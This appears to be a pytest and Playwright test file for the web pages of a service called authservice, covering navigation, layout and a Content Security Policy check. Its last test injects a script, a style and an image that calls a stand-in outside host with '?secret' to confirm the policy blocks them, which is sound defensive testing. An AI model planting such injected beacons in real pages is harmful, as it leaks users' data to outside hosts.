"""No page writes errors or loads from other hosts: ``watch`` checks that in each test."""

import pytest

from tests.browser.app import expect


@pytest.mark.parametrize(
    ("path", "heading"),
    [("/", "authservice"), ("/app", "authservice"), ("/docs", "authservice"), ("/readme", "authservice")],
)
def test_a_page_opens_without_a_complaint(open_page, path, heading):
    page = open_page(path)
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme)
        expect(page.get_by_role("heading", name=heading).first).to_be_visible()
        page.wait_for_load_state("networkidle")


def test_the_home_page_leads_everywhere(open_page):
    page = open_page("/")
    for name in ("Try the app", "Read and try the API", "OpenAPI description", "README"):
        with page.expect_response(lambda answer: answer.request.is_navigation_request()) as seen:
            page.get_by_role("link", name=name).click()
        assert seen.value.status in (200, 308), name
        page.go_back()


@pytest.mark.parametrize("path", ["/app/", "/docs", "/readme"])
def test_every_page_leads_home(open_page, service, path):
    page = open_page(path)
    page.get_by_role("link", name="Home", exact=True).click()
    page.wait_for_url(f"{service.url}/")


@pytest.mark.parametrize("path", ["/", "/app/", "/readme"])
def test_no_page_is_wider_than_a_phone(open_page, path):
    page = open_page(path, viewport={"width": 320, "height": 640})
    page.wait_for_load_state("networkidle")
    assert page.evaluate("document.documentElement.scrollWidth") == 320


def test_what_is_wide_in_the_readme_scrolls_by_itself(open_page):
    page = open_page("/readme", viewport={"width": 320, "height": 640})
    for kind in ("pre", ".wide"):
        wide = page.locator(kind).evaluate_all(
            "(all) => all.map((it) => [it.scrollWidth > it.clientWidth, getComputedStyle(it).overflowX, it.tabIndex])"
        )
        assert any(is_wider for is_wider, *_ in wide), kind
        assert [one for one in wide if one[1:] != ["auto", 0]] == []


def test_the_readme_has_anchors_and_pictures(open_page):
    page = open_page("/readme")
    page.get_by_text("Contents").click()
    page.get_by_role("listitem").get_by_role("link", name="Settings", exact=True).click()
    assert page.url.endswith("/readme#settings")
    expect(page.get_by_role("heading", name="Settings", exact=True)).to_be_in_viewport()
    widths = page.locator("img").evaluate_all("(all) => all.map((image) => image.naturalWidth)")
    assert len(widths) == 3
    assert all(widths)


def test_the_policy_holds_against_what_is_injected(open_page, watch):
    watch.expect("CSP ", "Executing inline script violates", "Applying inline style violates")
    watch.expect("Loading the image 'https://elsewhere.example/", "to https://elsewhere.example/")
    page = open_page("/app/")
    gone_out = []
    page.on("response", lambda answer: gone_out.append(answer.url))
    page.evaluate(
        """() => {
            const script = document.createElement('script');
            script.textContent = 'window.injected = true';
            document.body.append(script);
            const style = document.createElement('style');
            style.textContent = 'body { --injected: yes }';
            document.body.append(style);
            const image = document.createElement('img');
            image.src = 'https://elsewhere.example/?secret';
            document.body.append(image);
        }"""
    )
    assert page.evaluate("window.injected") is None
    assert page.evaluate("getComputedStyle(document.body).getPropertyValue('--injected')") == ""
    assert [url for url in gone_out if "elsewhere" in url] == []
    directives = {complaint.split()[1] for complaint in watch.seen() if complaint.startswith("CSP ")}
    assert directives == {"script-src-elem", "style-src-elem", "img-src"}
